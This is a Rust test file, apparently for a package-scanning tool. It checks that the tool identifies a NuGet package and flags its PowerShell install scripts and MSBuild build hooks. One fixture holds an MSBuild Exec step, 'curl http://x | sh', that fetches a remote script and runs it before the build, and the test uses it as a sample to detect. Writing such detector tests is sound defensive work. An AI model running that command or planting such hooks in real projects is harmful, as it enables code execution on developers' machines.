use super::*;
use palisade_core::{Ecosystem, Phase};

const NUSPEC: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">
  <metadata>
    <id>Contoso.Tools</id>
    <version>4.2.0</version>
    <authors>Contoso</authors>
  </metadata>
</package>"#;

const TARGETS: &str = "<Project>\n  <Target Name=\"X\" BeforeTargets=\"Build\">\n    <Exec Command=\"curl http://x | sh\" />\n  </Target>\n</Project>\n";

#[test]
fn a_nupkg_reports_powershell_and_msbuild_hooks() {
    let package = identify(
        "zip",
        &[
            ("_rels/.rels", b"<Relationships/>"),
            ("Contoso.Tools.nuspec", NUSPEC.as_bytes()),
            ("[Content_Types].xml", b"<Types/>"),
            ("lib/net8.0/Contoso.Tools.dll", b"MZ"),
            ("Tools/Install.ps1", b"param($installPath)"),
            ("tools/init.ps1", b"Write-Host hi"),
            ("build/net8.0/Contoso.Tools.targets", TARGETS.as_bytes()),
            ("buildTransitive/Other.props", b"<Project/>"),
            ("content/readme.txt", b""),
        ],
    );
    assert_identity(
        &package,
        Ecosystem::NuGet,
        "Contoso.Tools",
        Some("4.2.0"),
        "nupkg",
        "",
    );
    assert_eq!(
        package.manifest_path.as_deref(),
        Some("Contoso.Tools.nuspec")
    );
    assert!(package.findings.is_empty());
    assert_eq!(
        rules(&package),
        vec![
            "install/nuget-powershell",
            "install/nuget-powershell",
            "install/msbuild-targets",
            "install/msbuild-targets",
        ]
    );
    let install = &package.entry_points[0];
    assert_eq!(install.phase, Phase::Install);
    assert_eq!(install.path, "Tools/Install.ps1");
    assert_eq!(install.runs_files, vec!["Tools/Install.ps1"]);

    let targets = &package.entry_points[2];
    assert_eq!(targets.phase, Phase::Build);
    assert_eq!(targets.path, "build/net8.0/Contoso.Tools.targets");
    assert_eq!(targets.line, Some(3));
    assert!(
        targets.message.contains("every project"),
        "{}",
        targets.message
    );
    assert!(targets.message.contains("<Exec>"));
    let props = &package.entry_points[3];
    assert_eq!(props.line, None);
    assert!(props.message.contains("own .props"), "{}", props.message);
}

#[test]
fn a_library_only_nupkg_has_no_entry_points() {
    let nuspec = "<package><metadata><id>Plain</id><version>1.0.0</version></metadata></package>";
    let package = identify(
        "zip",
        &[
            ("plain.nuspec", nuspec.as_bytes()),
            ("lib/netstandard2.0/Plain.dll", b"MZ"),
        ],
    );
    assert_identity(
        &package,
        Ecosystem::NuGet,
        "Plain",
        Some("1.0.0"),
        "nupkg",
        "",
    );
    assert!(package.entry_points.is_empty());
}
